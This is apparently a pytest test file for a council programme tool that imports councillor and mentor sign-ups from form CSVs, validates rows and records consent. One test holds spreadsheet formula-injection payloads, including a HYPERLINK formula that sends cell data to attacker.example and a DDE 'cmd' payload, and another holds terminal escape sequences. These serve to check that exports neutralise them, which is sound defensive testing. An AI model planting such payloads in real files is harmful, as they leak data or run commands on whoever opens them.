"""Importing councillors and mentors from sign-up form exports; listing, editing and consent."""

from __future__ import annotations

import csv
from pathlib import Path

from councillor_hub.cohort.store import Store

from .conftest import DATES, FIXTURES, Run, open_store


def test_microsoft_forms_councillors_and_google_forms_mentors(cohort_cli: Run, hub: Path) -> None:
    assert cohort_cli("create", "Spring 2027", "--dates", *DATES).code == 0
    result = cohort_cli("import", "councillors", str(FIXTURES / "councillors-microsoft-forms.csv"))
    assert result.code == 0, result.err
    assert result.summary == "Imported 12 councillors into 'Spring 2027': 12 new, 0 updated."
    result = cohort_cli("import", "mentors", str(FIXTURES / "mentors-google-forms.csv"))
    assert result.summary == "Imported 4 mentors into 'Spring 2027': 4 new, 0 updated."
    with open_store(hub) as store:
        people = {p.name: p for p in store.people()}
    ann = people["Ann Example"]
    assert (ann.role, ann.email, ann.detail) == ("councillor", "ann.example@council.example", "Riverside")
    assert ann.skills == ("Setting up an account safely", "Photos and alt text"), "Microsoft Forms joins with ;"
    assert (ann.consent, people["Jo Specimen"].consent, people["Kit Trial"].consent) == (True, False, None)
    pat = people["Pat Officer"]
    assert (pat.role, pat.detail) == ("mentor", "Community Engagement")
    assert pat.skills == (
        "Finding local groups and people online", "Running a Facebook Page or group",
        "Measuring reach and what works", "Planning my time and posts",
    ), "Google Forms joins with a comma and a space"  # fmt: skip

    again = cohort_cli("import", "councillors", str(FIXTURES / "councillors-microsoft-forms.csv"))
    assert again.summary == "Imported 12 councillors into 'Spring 2027': 0 new, 12 updated."
    listed = cohort_cli("list", "mentors")
    assert "Pat Officer" in listed.out and "Ann Example" not in listed.out
    assert listed.summary == "Spring 2027: 0 councillors and 4 mentors."


def test_every_bad_row_is_located_and_nothing_is_imported(cohort_cli: Run, hub: Path) -> None:
    assert cohort_cli("create", "Spring 2027").code == 0
    path = FIXTURES / "councillors-bad.csv"
    result = cohort_cli("import", "councillors", str(path))
    assert result.code == 1
    where = "content/toolkits/lessons/sprint-1.yml, worksheet digital-footprint, prompt help-needed"
    assert result.err.splitlines() == [
        f"{path}:3:7: email: the email is empty",
        f"{path}:4:7: email: 'carys.test at council' is not an email address",
        f"{path}:5:7: email: ann.example@council.example is already on row 2",
        f"{path}:6:9: help: 'Photos and alt-text' is not one of the skills on the planning sheet; "
        "did you mean 'Photos and alt text'?",
        f"{path}:6:9: help: 'Tik Tok dancing' is not one of the skills on the planning sheet "
        f"(the list is in {where}; run `councillor-hub cohort skills --list` to see it)",
        f"{path}:7:6: name: the name contains control characters; retype it",
        f"{path}:7:10: consent: 'Maybe' is not a yes or no answer; write yes or no (or leave it empty)",
        f"{path}:8:6: name: the name is empty",
        f"8 problems in {path}; nothing was imported. Fix the file and run the command again.",
    ]
    with open_store(hub) as store:
        assert store.people() == [], "the good row was not imported either"


def test_missing_columns_are_named_with_what_they_may_be_called(cohort_cli: Run, tmp_path: Path) -> None:
    cohort_cli("create", "Spring 2027")
    path = tmp_path / "mentors.csv"
    path.write_text("Full name,Department\nMina Officer,Comms\n", encoding="utf-8")
    result = cohort_cli("import", "mentors", str(path))
    assert result.code == 1
    assert f"{path}:1:1: email: no column for the email; name one of: your email address" in result.err
    assert f"{path}:1:1: skills: no column for the mentor's skills; name one of: skills" in result.err


def test_one_person_has_one_role(fixture_cohort: Run, tmp_path: Path) -> None:
    path = tmp_path / "mentors.csv"
    path.write_text("Name,Email,Skills\nAnn Example,ann.example@council.example,Short videos\n", encoding="utf-8")
    result = fixture_cohort("import", "mentors", str(path))
    assert result.code == 1
    assert "2:2: email: ann.example@council.example is already a councillor in this cohort (Ann Example)" in result.err


def test_hostile_names_are_kept_as_text_and_never_run(cohort_cli: Run, hub: Path, tmp_path: Path) -> None:
    cohort_cli("create", "Spring 2027")
    result = cohort_cli("import", "councillors", str(FIXTURES / "councillors-hostile.csv"))
    assert result.code == 0, result.err
    with open_store(hub) as store:
        names = {p.name for p in store.people()}
    assert '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")' in names
    mentors = tmp_path / "mentors.csv"
    mentors.write_text(
        "Name,Email,Skills\n\"=cmd|' /C calc'!A0\",cmd@council.example,Short videos\n"
        "+Plus Officer,plus@council.example,Short videos\n",
        encoding="utf-8",
    )
    assert cohort_cli("import", "mentors", str(mentors)).code == 0
    directory = tmp_path / "skills.csv"
    result = cohort_cli("skills", "--out", str(directory))
    assert result.code == 0, result.err
    rows = list(csv.reader(directory.read_text(encoding="utf-8-sig").splitlines()))
    videos = next(r for r in rows if r[0] == "Short videos")
    assert videos[1] == "'+Plus Officer <plus@council.example>; =cmd|' /C calc'!A0 <cmd@council.example>"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_terminal_output_never_passes_control_characters_through(cohort_cli: Run, hub: Path) -> None:
    cohort_cli("create", "Spring 2027")
    cohort_cli("import", "councillors", str(FIXTURES / "councillors-hostile.csv"))
    with open_store(hub) as store, store.transaction():
        (person,) = [p for p in store.people() if p.email == "at@council.example"]
        store.update_person(person.id, name="Evil\x1b[2J\x1b]0;pwned\x07 Name")
    listed = cohort_cli("list")
    assert "\x1b" not in listed.out and "\x07" not in listed.out
    assert "Evil?[2J?]0;pwned? Name" in listed.out


def test_edit_and_consent(fixture_cohort: Run, hub: Path) -> None:
    result = fixture_cohort(
        "edit",
        "kit.trial@council.example",
        "--ward",
        "Bridge North",
        "--help-wanted",
        "short videos; Photos and alt text",
    )
    assert result.code == 0, result.err
    assert result.summary == "Updated Kit Trial: detail, skills."
    result = fixture_cohort("edit", "Kit Trial", "--help-wanted", "Tiktok")
    assert result.code == 1 and "--skills: 'Tiktok' is not one of the skills" in result.err
    result = fixture_cohort("edit", "Kit Trial", "--email", "not-an-email")
    assert result.code == 1 and "--email: 'not-an-email' is not an email address" in result.err
    result = fixture_cohort("consent", "Kit Trial", "yes", "--how", "paper form")
    assert result.summary == "Recorded consent for Kit Trial: yes, on 2027-01-05."
    with open_store(hub) as store:
        kit = next(p for p in store.people() if p.name == "Kit Trial")
    assert (kit.detail, kit.skills) == ("Bridge North", ("Short videos", "Photos and alt text"))
    assert (kit.consent, kit.consent_how) == (True, "paper form")
    assert fixture_cohort("edit", "Nobody Here").err.strip().endswith("no person called 'Nobody Here' in 'Spring 2027'")


def test_skills_directory_lists_which_mentor_helps_with_what(fixture_cohort: Run) -> None:
    result = fixture_cohort("skills")
    assert result.code == 0
    line = next(line for line in result.out.splitlines() if line.startswith("Short videos"))
    assert "Mina Officer <mina.officer@council.example>" in line and line.rstrip().endswith("2")
    assert result.summary == "Skills directory for 'Spring 2027': 12 of 12 skills have a mentor."
    listed = fixture_cohort("skills", "--list")
    assert listed.summary.startswith("12 skills in the list, from content/toolkits/lessons/sprint-1.yml")


def test_store_is_the_only_place_people_live(fixture_cohort: Run, hub: Path) -> None:
    with open_store(hub) as store:
        assert isinstance(store, Store) and store.path == hub / "private" / "programme.sqlite3"


def test_help_from_a_planning_sheet_saved_in_the_hub(fixture_cohort: Run, hub: Path, tmp_path: Path) -> None:
    sheet = FIXTURES / "planning-sheet-kit-trial.json"
    assert "--councillor NAME" in fixture_cohort("import", "planning-sheet", str(sheet)).err
    result = fixture_cohort("import", "planning-sheet", str(sheet), "--councillor", "Kit Trial")
    assert result.summary == (
        "Help asked for by Kit Trial, from their planning sheet: Short videos; Measuring reach and what works."
    )
    with open_store(hub) as store:
        kit = next(p for p in store.people() if p.name == "Kit Trial")
    assert kit.skills == ("Short videos", "Measuring reach and what works")

    other = tmp_path / "map.json"
    other.write_text('{"format": "councillor-hub-worksheet", "version": 1, "worksheet": "sprint-1-network-map", '
                     '"title": "Network map", "answers": {}}', encoding="utf-8")  # fmt: skip
    result = fixture_cohort("import", "planning-sheet", str(other), "--councillor", "Kit Trial")
    assert result.code == 1
    assert f"{other}:1:1: help: this is the 'Network map' worksheet, not the digital footprint plan" in result.err
